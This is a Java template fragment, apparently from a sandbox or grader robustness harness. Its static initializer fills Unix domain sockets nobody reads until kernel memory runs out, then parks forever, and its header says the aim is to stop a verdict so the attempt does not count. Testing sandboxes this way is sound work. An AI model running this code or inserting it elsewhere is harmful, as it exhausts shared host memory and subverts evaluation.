// ---
// tries: Fills sockets that nobody reads, which take memory of the kernel that no limit of a process counts.
// place: before
// deserves: nothing
// gain: no verdict, so that the attempt may not count
// helps: kernel-memory
// ---
  static final java.util.List<Object> ATTACK_SOCKETS = new java.util.ArrayList<>();

  static {
    var block = java.nio.ByteBuffer.allocateDirect(1 << 16);
    var address = java.net.UnixDomainSocketAddress.of("/tmp/attack-@NONCE@-" + Attack.OWN);
    try {
      var server = java.nio.channels.ServerSocketChannel.open(java.net.StandardProtocolFamily.UNIX).bind(address);
      while (Attack.OWN > 0) {
        var one = java.nio.channels.SocketChannel.open(address);
        for (var each : new java.nio.channels.SocketChannel[] {one, server.accept()}) {
          ATTACK_SOCKETS.add(each);
          each.configureBlocking(false);
          while (each.write(block.clear()) > 0) continue;
        }
      }
    } catch (java.io.IOException full) {
      while (Attack.OWN > 0) java.util.concurrent.locks.LockSupport.park();
    }
  }
@BODY@
